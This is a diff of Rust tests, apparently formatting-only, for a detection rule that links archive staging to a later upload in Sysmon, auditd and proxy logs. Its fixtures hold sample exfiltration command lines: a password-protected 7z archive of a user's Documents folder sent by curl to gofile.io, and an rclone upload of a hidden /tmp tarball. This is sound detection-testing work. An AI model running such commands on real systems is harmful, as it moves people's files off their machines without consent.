@@ -20,7 +20,12 @@ fn seven_zip(time: &str, archive: &str) -> Vec<String> {
             &[
                 ("ProcessId", "12788"),
                 ("Image", r"C:\Program Files\7-Zip\7z.exe"),
-                ("CommandLine", &format!(r"7z.exe a -t7z -mhe=on -pSecret {archive} C:\Users\eivanova\Documents\*")),
+                (
+                    "CommandLine",
+                    &format!(
+                        r"7z.exe a -t7z -mhe=on -pSecret {archive} C:\Users\eivanova\Documents\*"
+                    ),
+                ),
                 ("CurrentDirectory", r"C:\Users\eivanova\"),
                 ("User", r"CORP\eivanova"),
             ],
@@ -48,7 +53,12 @@ fn curl_upload(time: &str, archive: &str) -> String {
             ("ProcessId", "3192"),
             ("Image", r"C:\Windows\System32\curl.exe"),
             ("OriginalFileName", "curl.exe"),
-            ("CommandLine", &format!("curl.exe -F \"file=@{archive}\" https://store1.gofile.io/contents/uploadfile")),
+            (
+                "CommandLine",
+                &format!(
+                    "curl.exe -F \"file=@{archive}\" https://store1.gofile.io/contents/uploadfile"
+                ),
+            ),
             ("User", r"CORP\eivanova"),
         ],
     )
@@ -68,7 +78,11 @@ fn seven_zip_in_public_then_curl_naming_the_archive() {
         "store1.gofile.io",
         "51.38.101.93",
     ));
-    let found = run(&ctx(None, None), StagingUpload::build, inputs(&[("sysmon.jsonl", lines.join("\n"))]));
+    let found = run(
+        &ctx(None, None),
+        StagingUpload::build,
+        inputs(&[("sysmon.jsonl", lines.join("\n"))]),
+    );
     assert_eq!(found.len(), 1, "{found:#?}");
     let f = &found[0];
     assert_eq!(f.rule.id, "outflow.staging-upload");
@@ -101,12 +115,19 @@ node=srv-git-01 type=EXECVE msg=audit(1795004725.134:91963): argc=5 a0="rclone" 
 node=srv-git-01 type=CWD msg=audit(1795004725.134:91963): cwd="/home/lcho"
 node=srv-git-01 type=EOE msg=audit(1795004725.134:91963):
 "#;
-    let found = run(&ctx(None, None), StagingUpload::build, inputs(&[("audit.log", audit.to_string())]));
+    let found = run(
+        &ctx(None, None),
+        StagingUpload::build,
+        inputs(&[("audit.log", audit.to_string())]),
+    );
     assert_eq!(found.len(), 1, "{found:#?}");
     let f = &found[0];
     assert_eq!(f.fields["staged"], "/tmp/.cache-7e33b2.tgz");
     assert_eq!(f.fields["tool"], "rclone");
-    assert_eq!(f.destination.as_ref().unwrap().target.as_deref(), Some("dbx:/sync"));
+    assert_eq!(
+        f.destination.as_ref().unwrap().target.as_deref(),
+        Some("dbx:/sync")
+    );
     assert_eq!(f.evidence.len(), 2);
 }
 
@@ -130,7 +151,10 @@ fn staged_then_proxy_upload(ua: &str, bytes: u64, upload_time: &str) -> Vec<outf
             &[
                 ("ProcessId", "4312"),
                 ("Image", r"C:\Windows\explorer.exe"),
-                ("TargetFilename", r"C:\Users\eivanova\Downloads\hr-export.zip"),
+                (
+                    "TargetFilename",
+                    r"C:\Users\eivanova\Downloads\hr-export.zip",
+                ),
                 ("User", r"CORP\eivanova"),
             ],
         ),
@@ -150,12 +174,16 @@ fn staged_then_proxy_upload(ua: &str, bytes: u64, upload_time: &str) -> Vec<outf
 
 #[test]
 fn a_script_upload_of_comparable_size_from_the_host_is_linked() {
-    let events = staged_then_proxy_upload("python-requests/2.32.3", 48_000_000, "2026-11-16 10:20:00");
+    let events =
+        staged_then_proxy_upload("python-requests/2.32.3", 48_000_000, "2026-11-16 10:20:00");
     let found = run(&ctx(None, None), StagingUpload::build, events);
     assert_eq!(found.len(), 1, "{found:#?}");
     let f = &found[0];
     assert_eq!(f.fields["link"], "upload of comparable size from the host");
-    assert_eq!(f.fields["staged"], r"C:\Users\eivanova\Downloads\hr-export.zip");
+    assert_eq!(
+        f.fields["staged"],
+        r"C:\Users\eivanova\Downloads\hr-export.zip"
+    );
     assert_eq!(f.risk_score, 7);
     assert_eq!(f.bytes_out, Some(48_000_000));
     assert_eq!(f.entity.host.as_deref(), Some(HOST));
@@ -166,14 +194,40 @@ fn browser_uploads_small_uploads_and_late_uploads_are_not_linked() {
     let chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
     let c = ctx(None, None);
     // A person uploading with a browser.
-    assert!(run(&c, StagingUpload::build, staged_then_proxy_upload(chrome, 48_000_000, "2026-11-16 10:20:00")).is_empty());
+    assert!(run(
+        &c,
+        StagingUpload::build,
+        staged_then_proxy_upload(chrome, 48_000_000, "2026-11-16 10:20:00")
+    )
+    .is_empty());
     // Too small for an unknown staged size (floor 10 MB).
-    assert!(run(&c, StagingUpload::build, staged_then_proxy_upload("python-requests/2.32.3", 200_000, "2026-11-16 10:20:00")).is_empty());
+    assert!(run(
+        &c,
+        StagingUpload::build,
+        staged_then_proxy_upload("python-requests/2.32.3", 200_000, "2026-11-16 10:20:00")
+    )
+    .is_empty());
     // Two hours after the staging (window 1 h).
-    assert!(run(&c, StagingUpload::build, staged_then_proxy_upload("python-requests/2.32.3", 48_000_000, "2026-11-16 12:20:00")).is_empty());
+    assert!(run(
+        &c,
+        StagingUpload::build,
+        staged_then_proxy_upload("python-requests/2.32.3", 48_000_000, "2026-11-16 12:20:00")
+    )
+    .is_empty());
     // A longer window in the settings links it again.
-    let wide = ctx(None, Some("analytics:\n  staging-upload:\n    window: 14400\n"));
-    assert_eq!(run(&wide, StagingUpload::build, staged_then_proxy_upload("python-requests/2.32.3", 48_000_000, "2026-11-16 12:20:00")).len(), 1);
+    let wide = ctx(
+        None,
+        Some("analytics:\n  staging-upload:\n    window: 14400\n"),
+    );
+    assert_eq!(
+        run(
+            &wide,
+            StagingUpload::build,
+            staged_then_proxy_upload("python-requests/2.32.3", 48_000_000, "2026-11-16 12:20:00")
+        )
+        .len(),
+        1
+    );
 }
 
 #[test]
@@ -182,7 +236,12 @@ fn archives_outside_staging_places_and_backups_are_not_staging() {
     let mut lines = seven_zip("2026-11-16T09:52:54.790Z", archive);
     lines.push(curl_upload("2026-11-16T09:58:54.790Z", archive));
     let c = ctx(None, None);
-    assert!(run(&c, StagingUpload::build, inputs(&[("sysmon.jsonl", lines.join("\n"))])).is_empty());
+    assert!(run(
+        &c,
+        StagingUpload::build,
+        inputs(&[("sysmon.jsonl", lines.join("\n"))])
+    )
+    .is_empty());
 
     // The nightly backup: tar to /var/backups, then aws s3 sync of that folder.
     let audit = r#"node=srv-app-01 type=SYSCALL msg=audit(1794787300.000:1): arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=1 pid=100 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=1 comm="tar" exe="/usr/bin/tar" subj=unconfined key="exec"
@@ -192,7 +251,12 @@ node=srv-app-01 type=SYSCALL msg=audit(1794787400.000:2): arch=c000003e syscall=
 node=srv-app-01 type=EXECVE msg=audit(1794787400.000:2): argc=5 a0="/usr/local/bin/aws" a1="s3" a2="sync" a3="/var/backups" a4="s3://corp-example-backups/srv-app-01/"
 node=srv-app-01 type=EOE msg=audit(1794787400.000:2):
 "#;
-    assert!(run(&c, StagingUpload::build, inputs(&[("audit.log", audit.to_string())])).is_empty());
+    assert!(run(
+        &c,
+        StagingUpload::build,
+        inputs(&[("audit.log", audit.to_string())])
+    )
+    .is_empty());
 }
 
 #[test]
@@ -201,7 +265,10 @@ fn state_survives_a_snapshot() {
     let c = ctx(None, None);
     let archive = r"C:\Users\Public\q4.7z";
     let mut a = StagingUpload::new(&c).unwrap();
-    let mut engine_events = inputs(&[("sysmon.jsonl", seven_zip("2026-11-16T09:52:54.790Z", archive).join("\n"))]);
+    let mut engine_events = inputs(&[(
+        "sysmon.jsonl",
+        seven_zip("2026-11-16T09:52:54.790Z", archive).join("\n"),
+    )]);
     engine_events.sort_by_key(|e| e.ts);
     let mut engine = outflow_analytics::AnalyticsEngine::new(c.clone(), Vec::new());
     let mut out = Vec::new();
@@ -213,7 +280,10 @@ fn state_survives_a_snapshot() {
     assert!(a.state_len() >= 1);
     let mut b = StagingUpload::new(&c).unwrap();
     b.restore(snap).unwrap();
-    let later = inputs(&[("sysmon.jsonl", curl_upload("2026-11-16T09:58:54.790Z", archive))]);
+    let later = inputs(&[(
+        "sysmon.jsonl",
+        curl_upload("2026-11-16T09:58:54.790Z", archive),
+    )]);
     for ev in &later {
         let v = engine.view(ev);
         b.on_event(&v, &mut out);
